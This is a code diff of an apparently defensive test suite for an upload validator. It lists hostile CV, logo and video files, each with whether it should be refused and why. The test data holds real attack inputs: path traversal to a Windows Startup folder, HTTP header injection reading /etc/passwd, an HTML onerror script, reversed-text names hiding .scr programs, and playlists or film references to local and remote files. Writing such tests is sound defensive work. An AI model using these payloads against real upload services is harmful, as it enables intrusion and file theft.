     why: "Office programs open it by its content, with the object packed into it.",
@@ -1221,7 +1148,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...docxCv,
     name: "Java program named DOCX",
-    category: "wrong type",
     bytes: () =>
       zip([
         { name: "META-INF/MANIFEST.MF", content: "Manifest-Version: 1.0\nMain-Class: A\n" },
@@ -1233,7 +1159,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...docxCv,
     name: "spreadsheet named DOCX",
-    category: "wrong type",
     bytes: () =>
       zip([
         {
@@ -1251,7 +1176,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...odtCv,
     name: "spreadsheet named ODT",
-    category: "wrong type",
     bytes: () => zip(odtEntries({ mimetype: "application/vnd.oasis.opendocument.spreadsheet" })),
     expected: refused,
     why: "An office file, but of another kind.",
@@ -1259,7 +1183,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pngPhoto,
     name: "Windows program as a logo",
-    category: "wrong type",
     kind: "logo",
     bytes: () => join(windowsProgram(), png()),
     expected: refused,
@@ -1268,7 +1191,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...webmVideo,
     name: "macOS program named WebM",
-    category: "wrong type",
     bytes: macProgram,
     expected: refused,
     why: "A program under the name of a video.",
@@ -1276,7 +1198,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "shortcut as a Kbis",
-    category: "wrong type",
     kind: "kbis",
     fileName: "kbis.pdf",
     bytes: windowsShortcut,
@@ -1286,7 +1207,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "batch file named PDF",
-    category: "wrong type",
     bytes: () => latin1(`@echo off\r\nrem %PDF-1.4\r\necho ${mark}\r\n`),
     expected: refused,
     why: "A program with the word that readers look for in its second line.",
@@ -1294,7 +1214,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "page of HTML with a mark before it named PDF",
-    category: "wrong type",
     kind: "offerFile",
     fileName: "offre.pdf",
     bytes: () => utf8(`\uFEFF  \n<!-- %PDF-1.7 -->\n${html}`),
@@ -1304,7 +1223,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "page of HTML declared as a Kbis picture",
-    category: "wrong type",
     kind: "kbis",
     fileName: "kbis.jpg",
     bytes: () => join("\xff\xd8\xff", html),
@@ -1314,7 +1232,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "picture named PDF declared as a program",
-    category: "wrong type",
     kind: "kbis",
     fileName: "kbis.pdf",
     declaredType: "application/x-msdownload",
@@ -1325,7 +1242,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...mp4Video,
     name: "list of addresses named MP4",
-    category: "wrong type",
     bytes: () =>
       latin1(
         `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXTINF:10,\nhttp://${stranger}/a.ts\n#EXT-X-ENDLIST\n`,
@@ -1336,7 +1252,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "photo declared as a page of HTML",
-    category: "wrong type",
     declaredType: "text/html; charset=utf-8",
     bytes: () => jpeg(),
     expected: harmless,
@@ -1345,7 +1260,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...webmVideo,
     name: "empty video",
-    category: "wrong type",
     bytes: () => new Uint8Array(),
     expected: refused,
     why: "There is nothing in it.",
@@ -1353,204 +1267,156 @@ const wrongTypes: HostileFile[] = [
   {
     ...docxCv,
     name: "CV of one byte",
-    category: "wrong type",
     bytes: () => latin1("P"),
     expected: refused,
     why: "Checks that read further than the file ends must not fall.",
   },
-];
+]);
 
-const names: HostileFile[] = [
-  {
-    ...pdfCv,
-    name: "name that climbs with backslashes",
-    category: "name",
-    fileName: "..\\..\\Startup\\cv.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Taken as a path on Windows it writes outside of its folder.",
-    absent: ["..\\", "..%5C", "Startup"],
-  },
-  {
-    ...pdfCv,
-    name: "name on a share",
-    category: "name",
-    fileName: `//${stranger}/share/cv.pdf`,
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Taken as a path it asks a stranger's machine.",
-    absent: [stranger, "%2Fshare"],
-  },
-  {
-    ...pdfCv,
-    name: "name with a NUL and a program behind it",
-    category: "name",
-    fileName: "cv.pdf\0.exe",
-    bytes: () => cvPdf(),
-    expected: refused,
-    why: "Its ending is that of a program.",
-  },
-  {
-    ...jpegPhoto,
-    name: "name with a newline and a header",
-    category: "name",
-    fileName: "photo\nX-Accel-Redirect: /etc/passwd\n.jpg",
-    bytes: () => jpeg(),
-    expected: harmless,
-    why: "A lone newline ends a header too, and this one makes a proxy send a file.",
-    absent: ["\nX-Accel-Redirect", "%0A"],
-  },
-  {
-    ...pdfCv,
-    name: "name that ends another field",
-    category: "name",
-    fileName: `cv"; filename="a.exe"; x=".pdf`,
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Written between quotes it ends them and names a program.",
-    absent: ['filename="a.exe"'],
-  },
-  {
-    ...pdfCv,
-    name: "name that is HTML",
-    category: "name",
-    fileName: `<img src=x onerror=alert('${mark}')>.pdf`,
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "A page that shows the name as it is runs it.",
-    absent: ["<img src=x"],
-  },
-  {
-    ...pdfCv,
-    name: "name with other marks of direction",
-    category: "name",
-    fileName: "cv\u2067\u2066fdp\u2069.\u200F\u200Epdf\u061C.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Isolates and marks turn the order of letters as well as the known override.",
-    absent: ["\u2067", "%E2%81%A7", "%E2%80%8F", "%D8%9C"],
-  },
-  {
-    ...pdfCv,
-    name: "name that reads backwards, a screen saver's",
-    category: "name",
-    fileName: "cv\u202Efdp.scr",
-    bytes: () => cvPdf(),
-    expected: refused,
-    why: "Shown as cvrcs.pdf, run as a program.",
-  },
-  {
-    ...pdfCv,
-    name: "name of 5,000 letters of four bytes",
-    category: "name",
-    fileName: `${"\u{1F600}".repeat(5_000)}.pdf`,
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Twenty thousand bytes, sixty thousand in a header; cut anywhere it may end in half a letter.",
-    absent: ["%F0%9F%98%80".repeat(300), "\uFFFD", "%EF%BF%BD"],
-  },
-  {
-    ...pngPhoto,
-    name: "name of dots and spaces",
-    category: "name",
-    fileName: " .. . ",
-    bytes: () => png(),
-    expected: harmless,
-    why: "Nothing is left of it, or the folder above.",
-    absent: ['filename=".', "UTF-8''."],
-  },
-  {
-    ...docxCv,
-    name: "name that Windows keeps for a port",
-    category: "name",
-    fileName: "lpt1.docx",
-    bytes: () => docx(),
-    expected: harmless,
-    why: "Windows can neither write nor delete a file of this name.",
-    absent: ['filename="lpt1.docx"', "UTF-8''lpt1.docx"],
-  },
-  {
-    ...pdfCv,
-    name: "name with halves of characters the wrong way round",
-    category: "name",
-    fileName: "\uDE00cv\uD83D.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Encoding it for a header or for the database throws.",
-    absent: ["%ED%B8%80", "%ED%A0%BD"],
-  },
-  {
-    ...pdfCv,
-    name: "name with a stream of its own",
-    category: "name",
-    fileName: "cv.pdf:setup.exe",
-    bytes: () => cvPdf(),
-    expected: refused,
-    why: "Windows keeps what follows the colon as a second file, and its ending is a program's.",
-  },
-  {
-    ...pdfCv,
-    name: "name with a shortcut's ending behind spaces",
-    category: "name",
-    fileName: `cv.pdf${" ".repeat(100)}.lnk`,
-    bytes: () => cvPdf(),
-    expected: refused,
-    why: "The spaces push the true ending out of sight.",
-  },
-  {
-    ...pdfCv,
-    name: "name that ends in a dot and a no-break space",
-    category: "name",
-    fileName: "cv.pdf.\u00A0",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Windows drops the dot, checks of the ending see none.",
-    absent: ["pdf.%C2%A0", 'pdf."'],
-  },
-  {
-    ...mp4Video,
-    name: "name with endings of a page",
-    category: "name",
-    fileName: "video.mp4.html",
-    bytes: () => film(),
-    expected: refused,
-    why: "Who serves it by its name serves a page.",
-  },
-];
+const names = inCategory(
+  "name",
+  [
+    {
+      name: "name that climbs with backslashes",
+      fileName: "..\\..\\Startup\\cv.pdf",
+      expected: harmless,
+      why: "Taken as a path on Windows it writes outside of its folder.",
+      absent: ["..\\", "..%5C", "Startup"],
+    },
+    {
+      name: "name on a share",
+      fileName: `//${stranger}/share/cv.pdf`,
+      expected: harmless,
+      why: "Taken as a path it asks a stranger's machine.",
+      absent: [stranger, "%2Fshare"],
+    },
+    {
+      name: "name with a NUL and a program behind it",
+      fileName: "cv.pdf\0.exe",
+      expected: refused,
+      why: "Its ending is that of a program.",
+    },
+    {
+      ...jpegPhoto,
+      name: "name with a newline and a header",
+      fileName: "photo\nX-Accel-Redirect: /etc/passwd\n.jpg",
+      bytes: () => jpeg(),
+      expected: harmless,
+      why: "A lone newline ends a header too, and this one makes a proxy send a file.",
+      absent: ["\nX-Accel-Redirect", "%0A"],
+    },
+    {
+      name: "name that ends another field",
+      fileName: `cv"; filename="a.exe"; x=".pdf`,
+      expected: harmless,
+      why: "Written between quotes it ends them and names a program.",
+      absent: ['filename="a.exe"'],
+    },
+    {
+      name: "name that is HTML",
+      fileName: `<img src=x onerror=alert('${mark}')>.pdf`,
+      expected: harmless,
+      why: "A page that shows the name as it is runs it.",
+      absent: ["<img src=x"],
+    },
+    {
+      name: "name with other marks of direction",
+      fileName: "cv\u2067\u2066fdp\u2069.\u200F\u200Epdf\u061C.pdf",
+      expected: harmless,
+      why: "Isolates and marks turn the order of letters as well as the known override.",
+      absent: ["\u2067", "%E2%81%A7", "%E2%80%8F", "%D8%9C"],
+    },
+    {
+      name: "name that reads backwards, a screen saver's",
+      fileName: "cv\u202Efdp.scr",
+      expected: refused,
+      why: "Shown as cvrcs.pdf, run as a program.",
+    },
+    {
+      name: "name of 5,000 letters of four bytes",
+      fileName: `${"\u{1F600}".repeat(5_000)}.pdf`,
+      expected: harmless,
+      why: "Twenty thousand bytes, sixty thousand in a header; cut anywhere it may end in half a letter.",
+      absent: ["%F0%9F%98%80".repeat(300), "\uFFFD", "%EF%BF%BD"],
+    },
+    {
+      ...pngPhoto,
+      name: "name of dots and spaces",
+      fileName: " .. . ",
+      bytes: () => png(),
+      expected: harmless,
+      why: "Nothing is left of it, or the folder above.",
+      absent: ['filename=".', "UTF-8''."],
+    },
+    {
+      ...docxCv,
+      name: "name that Windows keeps for a port",
+      fileName: "lpt1.docx",
+      bytes: () => docx(),
+      expected: harmless,
+      why: "Windows can neither write nor delete a file of this name.",
+      absent: ['filename="lpt1.docx"', "UTF-8''lpt1.docx"],
+    },
+    {
+      name: "name with halves of characters the wrong way round",
+      fileName: "\uDE00cv\uD83D.pdf",
+      expected: harmless,
+      why: "Encoding it for a header or for the database throws.",
+      absent: ["%ED%B8%80", "%ED%A0%BD"],
+    },
+    {
+      name: "name with a stream of its own",
+      fileName: "cv.pdf:setup.exe",
+      expected: refused,
+      why: "Windows keeps what follows the colon as a second file, and its ending is a program's.",
+    },
+    {
+      name: "name with a shortcut's ending behind spaces",
+      fileName: `cv.pdf${" ".repeat(100)}.lnk`,
+      expected: refused,
+      why: "The spaces push the true ending out of sight.",
+    },
+    {
+      name: "name that ends in a dot and a no-break space",
+      fileName: "cv.pdf.\u00A0",
+      expected: harmless,
+      why: "Windows drops the dot, checks of the ending see none.",
+      absent: ["pdf.%C2%A0", 'pdf."'],
+    },
+    {
+      ...mp4Video,
+      name: "name with endings of a page",
+      fileName: "video.mp4.html",
+      bytes: () => film(),
+      expected: refused,
+      why: "Who serves it by its name serves a page.",
+    },
+  ].map((one) => ({ ...pdfCv, bytes: () => cvPdf(), ...one })),
+);
 
-const videos: HostileFile[] = [
+const videos = inCategory("video", [
   {
     ...mp4Video,
     name: "MP4 with a box of eight exabytes",
-    category: "video",
     bytes: () =>
-      join(
-        box("ftyp", "isom", big.u32(512), "isom"),
-        big.u32(1),
-        "moov",
-        "\x7f",
-        new Uint8Array(7).fill(255),
-        new Uint8Array(64),
-      ),
+      join(fileType("isom", 512), big.u32(1), "moov", "\x7f", new Uint8Array(7).fill(255), new Uint8Array(64)),
     expected: refused,
     why: "The long form of a box's size, at its limit.",
   },
   {
     ...mp4Video,
     name: "MP4 with a box smaller than its head",
-    category: "video",
-    bytes: () => join(box("ftyp", "isom", big.u32(512), "isom"), Array<string>(1000).fill("\0\0\0\x04moov").join("")),
+    bytes: () => join(fileType("isom", 512), Array<string>(1000).fill("\0\0\0\x04moov").join("")),
     expected: refused,
     why: "Who walks by the size goes back, and round for ever.",
   },
   {
     ...mp4Video,
     name: "MP4 with boxes 20,000 deep",
-    category: "video",
     bytes: () => {
       const depth = 20_000;
       const heads = Array.from({ length: depth }, (_, i) => join(big.u32(8 * (depth - i)), i === 0 ? "moov" : "trak"));
-      return joinAll([box("ftyp", "isom", big.u32(512), "isom"), ...heads]);
+      return joinAll([fileType("isom", 512), ...heads]);
     },
     expected: refused,
     why: "A reader that calls itself at each depth falls over; no film is there.",
@@ -1558,16 +1424,13 @@ const videos: HostileFile[] = [
   {
     ...movVideo,
     name: "MOV that is a drawing after its first box",
-    category: "video",
-    bytes: () =>
-      join(box("ftyp", "qt  ", big.u32(0), "qt  "), `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'/>`),
+    bytes: () => join(fileType("qt  ", 0), `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'/>`),
     expected: refused,
     why: "The first twelve bytes satisfy who looks at these alone.",
   },
   {
     ...webmVideo,
     name: "WebM that is HTML after its head",
-    category: "video",
     bytes: () => join(webmHead(), html),
     expected: refused,
     why: "The head is true, and all there is of a film.",
@@ -1575,7 +1438,6 @@ const videos: HostileFile[] = [
   {
     ...webmVideo,
     name: "WebM with a cluster of petabytes",
-    category: "video",
     bytes: () => webm({ clusterSize: join("\x01\x00", new Uint8Array(6).fill(0xf0)) }),
     expected: refused,
     why: "The head is true, the size of the pictures is not.",
@@ -1583,7 +1445,6 @@ const videos: HostileFile[] = [
   {
     ...webmVideo,
     name: "WebM with a program attached",
-    category: "video",
     bytes: () => {
       const file = join(
         element("466e", "a.exe"),
@@ -1599,18 +1460,16 @@ const videos: HostileFile[] = [
   {
     ...webmVideo,
     name: "WebM with a ZIP behind it",
-    category: "video",
-    bytes: () => join(webm(), zip([{ name: "index.html", content: html }])),
+    bytes: () => join(webm(), smallArchive()),
     expected: refused,
     why: "A video is kept as it is: the archive would go out with it.",
   },
   {
     ...movVideo,
     name: "MOV that refers to another film",
-    category: "video",
     bytes: () =>
       join(
-        box("ftyp", "qt  ", big.u32(0), "qt  "),
+        fileType("qt  ", 0),
         box("moov", box("rmra", box("rmda", fullBox("rdrf", 0, "url ", big.u32(26), `http://${stranger}/a.mov\0`)))),
       ),
     expected: refused,
@@ -1619,7 +1478,6 @@ const videos: HostileFile[] = [
   {
     ...movVideo,
     name: "MOV whose pictures lie in a file of the machine",
-    category: "video",
     bytes: () => film({ brand: "qt  ", dataFirst: true, reference: fullBox("alis", 0, "\0\0\0\x20/etc/passwd\0") }),
     expected: refused,
     why: "An alias in the place of the mark that the pictures are here.",
@@ -1627,7 +1485,6 @@ const videos: HostileFile[] = [
   {
     ...mp4Video,
     name: "MP4 with a page in an unused box",
-    category: "video",
     bytes: () => film({ before: box("free", html) }),
     expected: harmless,
     why: "A whole film; the page shows only where a browser guesses the type.",
@@ -1635,7 +1492,6 @@ const videos: HostileFile[] = [
   {
     ...movVideo,
     name: "MOV with the position of a phone",
-    category: "video",
     bytes: () => {
       const key = "com.apple.quicktime.location.ISO6709";
       const keys = fullBox("keys", 0, big.u32(1), box("mdta", key));
@@ -1648,7 +1504,7 @@ const videos: HostileFile[] = [
     why: "Phones write where the film was taken; companies would learn where a candidate lives.",
     absent: ["+45.7740+004.8300"],
   },
-];
+]);
 
 export const heldOut: HostileFile[] = [
   ...polyglots,
